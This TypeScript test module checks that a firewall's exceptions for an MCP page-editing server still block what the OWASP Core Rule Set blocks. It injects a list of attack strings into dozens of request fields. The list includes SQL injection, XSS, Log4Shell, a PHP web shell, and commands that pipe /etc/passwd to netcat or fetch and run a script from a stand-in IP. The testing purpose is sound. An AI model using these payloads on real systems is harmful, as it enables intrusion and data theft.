import type { Edge } from './edge.ts';
import { type Era, type Request, toolCall } from './frames.ts';

/** One of each family of CRS, and what its rules look for. */
export const ATTACKS: readonly string[] = [
  "' OR '1'='1' -- ",
  '1 UNION SELECT password FROM users-- -',
  '1; DROP TABLE users; SELECT pg_sleep(5)--',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)//<svg/onload=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/shadow',
  '; cat /etc/passwd | nc 192.0.2.1 4444',
  '$(wget http://192.0.2.1/x -O- | sh)',
  '`id; uname -a; /bin/bash -i`',
  '() { :;}; /bin/bash -c id',
  '\u0024{jndi:ldap://192.0.2.1/a}',
  '<?php system($_GET["c"]); ?>',
  'php://filter/convert.base64-encode/resource=index.php',
  'http://192.0.2.1/shell.txt?',
  'java.lang.Runtime.getRuntime().exec("id")',
  'powershell.exe -nop -enc AAAA; Invoke-Expression calc',
  "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
];

const query = encodeURIComponent;
const get = (path: string, headers: Record<string, string> = {}): Request => ({
  method: 'GET',
  path,
  headers: { 'user-agent': 'Claude-User', accept: '*/*', ...headers },
});
const form = (path: string, body: string): Request => ({
  method: 'POST',
  path,
  headers: { 'user-agent': 'Claude-User', accept: '*/*', 'content-type': 'application/x-www-form-urlencoded' },
  body,
});
const latin = (attack: string) => attack.replace(/[^\x20-\x7e]/g, '');
const page = { lang: 'en', title: 'A', content: 'A' };
const raw = (call: Request, change: (message: string) => string): Request => ({
  ...call,
  body: change(String(call.body)),
});

/** Where no content belongs. */
const places: Record<string, (attack: string, era: Era) => Request> = {
  'route of create_page': (a, era) => toolCall(era, 'create_page', { ...page, route: a }),
  'lang of update_page': (a, era) => toolCall(era, 'update_page', { ...page, route: 'a', lang: a }),
  'idempotency_key of create_page': (a, era) => toolCall(era, 'create_page', { ...page, idempotency_key: a }),
  'expected_revision of update_page': (a, era) => toolCall(era, 'update_page', { ...page, expected_revision: a }),
  'route in apply_changes': (a, era) =>
    toolCall(era, 'apply_changes', { changes: [{ action: 'create', ...page, route: a }] }),
  'to in apply_changes': (a, era) =>
    toolCall(era, 'apply_changes', { changes: [{ action: 'move', route: 'a', to: a }] }),
  'file name of upload_asset': (a, era) =>
    toolCall(era, 'upload_asset', { name: a, content_type: 'image/png', data: 'AA==' }),
  'folder of upload_asset': (a, era) => toolCall(era, 'upload_asset', { name: 'a.png', folder: a, data: 'AA==' }),
  'route of get_page': (a, era) => toolCall(era, 'get_page', { route: a }),
  'query of search_pages': (a, era) => toolCall(era, 'search_pages', { query: a }),
  'file of delete_asset': (a, era) => toolCall(era, 'delete_asset', { file: a }),
  'to of move_page': (a, era) => toolCall(era, 'move_page', { route: 'a', to: a }),
  'an unknown argument of create_page': (a, era) => toolCall(era, 'create_page', { ...page, extra: a }),
  'the tool name': (a, era) => toolCall(era, a, { route: 'a' }),
  'the id of the message': (a, era) =>
    raw(toolCall(era, 'get_page', { route: 'a' }), (m) => m.replace('"id":7', `"id":${JSON.stringify(a)}`)),
  'a header of /mcp': (a, era) => {
    const call = toolCall(era, 'create_page', page);
    return {
      ...call,
      headers: { ...call.headers, 'mcp-param-region': latin(a), 'user-agent': latin(a), referer: latin(a) },
    };
  },
  'the query of /mcp': (a, era) => ({ ...toolCall(era, 'create_page', page), path: `/mcp?x=${query(a)}` }),
  'a cookie of /mcp': (a, era) => {
    const call = toolCall(era, 'create_page', page);
    return { ...call, headers: { ...call.headers, cookie: `a=${query(a)}` } };
  },
  'a parameter of /authorize': (a) => get(`/authorize?response_type=${query(a)}`),
  'the path of a document': (a) => get(`/.well-known/oauth-protected-resource/${query(a)}?x=${query(a)}`),
  'the query of /healthz': (a) => get(`/healthz?content=${query(a)}&passphrase=${query(a)}`),
  'grant_type of /token': (a) => form('/token', `grant_type=${query(a)}`),
  'passphrase of /token': (a) => form('/token', `grant_type=x&passphrase=${query(a)}`),
  'another field of the login': (a) => form('/interaction/abc/login', `passphrase=x&next=${query(a)}`),
  'client_name of /register': (a, era) => ({
    ...toolCall(era, 'x', {}),
    path: '/register',
    body: JSON.stringify({ client_name: a }),
  }),
  'the ref of a push': (a, era) => ({
    ...toolCall(era, 'x', {}),
    path: '/webhook/github',
    body: JSON.stringify({ ref: a }),
  }),
};

/** Content where it looks like an exception but is none: CRS alone would block these too. */
const elsewhere: Record<string, (attack: string, era: Era) => Request> = {
  'content of get_page': (a, era) => toolCall(era, 'get_page', { route: 'a', content: a }),
  'title of search_pages': (a, era) => toolCall(era, 'search_pages', { query: 'a', title: a }),
  'data of create_page': (a, era) => toolCall(era, 'create_page', { ...page, data: a }),
  'changes of update_page': (a, era) => toolCall(era, 'update_page', { changes: [{ content: a }] }),
  'content of upload_asset': (a, era) => toolCall(era, 'upload_asset', { name: 'a.png', content: a }),
  'data of upload_asset that is no base64': (a, era) => toolCall(era, 'upload_asset', { name: 'a.png', data: `${a}!` }),
  'content of a call with two names': (a, era) =>
    raw(toolCall(era, 'create_page', { ...page, content: a }), (m) =>
      m.replace('"name":"create_page"', '"name":"create_page","name":"get_page"'),
    ),
  'content of another method': (a, era) =>
    raw(toolCall(era, 'create_page', { ...page, content: a }), (m) => m.replace('tools/call', 'prompts/get')),
  'the name of an argument': (a, era) => toolCall(era, 'create_page', { ...page, [a]: a }),
  'a key of front matter': (a, era) => toolCall(era, 'create_page', { ...page, front_matter: { [a]: a } }),
  'the query of /mcp under the name of content': (a, era) => ({
    ...toolCall(era, 'create_page', page),
    path: `/mcp?json.params.arguments.content=${query(a)}`,
  }),
  'a cookie of /mcp under the name of content': (a, era) => {
    const call = toolCall(era, 'create_page', page);
    return { ...call, headers: { ...call.headers, cookie: `json.params.arguments.content=${query(a)}` } };
  },
  'content in a GET of /mcp': (a, era) => ({ ...toolCall(era, 'create_page', { ...page, content: a }), method: 'GET' }),
  'content sent to /register': (a, era) => ({
    ...toolCall(era, 'create_page', { ...page, content: a }),
    path: '/register',
  }),
  'content sent to the webhook': (a, era) => ({
    ...toolCall(era, 'create_page', { ...page, content: a }),
    path: '/webhook/github',
  }),
  'content in a batch': (a, era) => raw(toolCall(era, 'create_page', { ...page, content: a }), (m) => `[${m}]`),
};

/** Every place in which an attack can stand, and what a request with it there looks like. */
export const ATTACK_PLACES: typeof places = { ...places, ...elsewhere };

/** How the firewall with the exceptions did, beside the one without. */
export interface AttackNumbers {
  sent: number;
  /** Blocked by CRS alone. */
  without: number;
  /** Blocked with the exceptions. */
  blocked: number;
  /** What only CRS alone blocked: there must be none. */
  missed: string[];
}

/** Sends every attack in every place to both. */
export async function countBlockedAttacks(edge: Edge, plain: Edge, era: Era): Promise<AttackNumbers> {
  const numbers: AttackNumbers = { sent: 0, without: 0, blocked: 0, missed: [] };
  for (const [place, build] of Object.entries(ATTACK_PLACES)) {
    const requests = ATTACKS.map((attack) => build(attack, era));
    const [before, now] = await Promise.all([plain.askAll(requests), edge.askAll(requests)]);
    for (const [index, attack] of ATTACKS.entries()) {
      numbers.sent += 1;
      if (now[index]?.status !== 200) numbers.blocked += 1;
      if (before[index]?.status === 200) continue;
      numbers.without += 1;
      if (now[index]?.status === 200) numbers.missed.push(`${place}: ${attack}`);
    }
  }
  return numbers;
}
